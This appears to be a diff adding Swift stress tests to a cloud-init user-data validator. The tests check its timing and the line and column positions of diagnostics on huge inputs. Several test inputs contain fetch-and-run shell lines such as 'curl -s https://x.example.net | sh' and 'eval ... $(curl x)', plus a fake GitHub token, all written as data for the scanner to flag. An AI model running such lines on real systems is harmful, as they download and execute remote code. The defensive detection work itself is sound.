@@ -299,3 +299,39 @@ func validate(_ bytes: [UInt8], on platform: Platform? = nil) throws -> Report {
     #expect(found.map(\.code) == ["template-path"] && found.first?.location?.line == 1)
   }
 }
+
+@Suite("User-data that is made to be hard") struct HardTests {
+  @Test(
+    "what takes time in proportion to its size is done in time", .timeLimit(.minutes(5)),
+    arguments: [
+      // Values, pipes and items of which each was once looked for from the start.
+      ("#cloud-config\npackages: [\(Array(repeating: "pkg", count: 50_000).joined(separator: ", "))]\n", nil),
+      ("#cloud-config\nruncmd:\n- \(String(repeating: "curl x | y ", count: 20_000))| sh\n", "3:3"),
+      ("#cloud-config\nruncmd:\n- eval \(String(repeating: "sh -sh ", count: 5_000))$(curl x)\n", "3:35001"),
+      ("#cloud-config\nlocale: '\(String(repeating: "%{if ", count: 10_000))'\n", nil),
+      ("#cloud-config\nlocale: '\(String(repeating: "<change me ", count: 4_000))>'\n", "2:43999"),
+      ("#cloud-config-archive\n" + String(repeating: "- '#!/bin/sh'\n", count: 20_000), nil),
+    ] as [(String, String?)])
+  func proportion(text: String, place: String?) throws {
+    let found = try validate(text).diagnostics.filter { $0.severity == .error }
+    #expect(
+      found.map { "\($0.location?.line ?? 0):\($0.location?.column ?? 0)" } == (place.map { [$0] } ?? []))
+  }
+
+  @Test("parts that are the same stand each at its own line")
+  func twins() throws {
+    let part = "--b\nContent-Type: text/x-shellscript\n\n#!/bin/sh\ncurl -s https://x.example.net | sh\n"
+    let report = try validate(
+      "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n\(part)\(part)--b--\n")
+    #expect(report.diagnostics.filter { $0.code == "curl-pipe-shell" }.map(\.location?.line) == [8, 13])
+  }
+
+  @Test("places on a long line are counted in characters, whatever they are made of")
+  func longLine() throws {
+    let secret = "ghp_aAbBcCdDeEfFgGhHiIjJkKlLmMnNoOpPqQrRsS"
+    let report = try validate(
+      "#cloud-config\npackages: [\(String(repeating: "é, ", count: 1000))\(secret)]\n")
+    #expect(report.diagnostics.map(\.code) == ["plain-secret"])
+    #expect(report.diagnostics.first?.location?.column == 3012)
+  }
+}
